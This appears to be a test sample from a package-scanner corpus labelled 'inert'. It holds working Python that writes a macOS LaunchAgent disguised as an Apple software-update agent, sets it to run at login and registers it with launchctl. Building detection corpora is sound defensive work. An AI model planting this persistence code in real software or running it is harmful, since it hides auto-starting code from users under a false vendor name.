# pkgguard corpus 282 (persistence), modelled on [developer-persistence]; inert, never run.
import os
import subprocess
import sys

label = "com.apple.softwareupdate.agent"
plist = os.path.expanduser(f"~/Library/LaunchAgents/{label}.plist")
with open(plist, "w") as f:
    f.write(
        '<?xml version="1.0"?><plist version="1.0"><dict>'
        f"<key>Label</key><string>{label}</string>"
        f"<key>ProgramArguments</key><array><string>{sys.executable}</string>"
        "<string>-m</string><string>pkg.agent</string></array>"
        "<key>RunAtLoad</key><true/></dict></plist>"
    )
subprocess.run(["launchctl", "bootstrap", f"gui/{os.getuid()}", plist], check=False)
